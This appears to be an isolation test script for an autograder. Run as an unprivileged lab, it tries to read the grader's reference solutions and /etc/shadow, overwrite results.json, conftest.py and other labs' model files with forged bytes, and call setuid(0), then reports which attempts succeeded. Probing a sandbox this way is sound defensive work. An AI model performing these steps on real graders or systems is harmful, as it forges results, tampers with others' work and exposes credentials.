"""Attack, run as an unprivileged user: read the grader's files, write its results and the
other labs' folders, and stay root.

The test fills in SOURCE, the grader's course folder, and RESULTS, its results folder. It
reports, as its import error, its user and everything it managed.
"""

import os
from pathlib import Path

SOURCE = "/autograder/source"
RESULTS = "/autograder/results"

here = Path(__file__).resolve().parent  # this lab's "in" folder
workdir, own = here.parents[1], here.parent.name
read, wrote = [], []
for path in [
    Path(SOURCE) / "reference" / "cv4_cifar_cnn.py",
    Path(SOURCE) / "graders" / "test_cv1_mnist_intro.py",
    Path(RESULTS) / "output.txt",
    Path("/etc/shadow"),
]:
    try:
        path.read_bytes()
        read.append(str(path))
    except OSError:
        pass
labs = ["cv1_mnist_intro", "cv2_fashion_mnist_intro", "cv3_mnist_cnn", "cv4_cifar_cnn"]
targets = [Path(RESULTS) / "results.json", Path(SOURCE) / "graders" / "conftest.py"]
targets += [workdir / lab / part / "model.keras" for lab in labs if lab != own
            for part in ("in", "out", "scratch", "harvest")]
targets += [workdir / own / "harvest" / "model.keras"]
for target in targets:
    try:
        target.write_bytes(b"forged")
        wrote.append(str(target))
    except OSError:
        pass
try:
    seen = sorted(os.listdir(workdir))
except OSError:
    seen = []
try:
    os.setuid(0)
    root = True
except OSError:
    root = False
raise RuntimeError(
    f"attack: read {read}; wrote {wrote}; saw {seen}; root {root}; uid {os.getuid()}; "
    f"groups {os.getgroups()}"
)
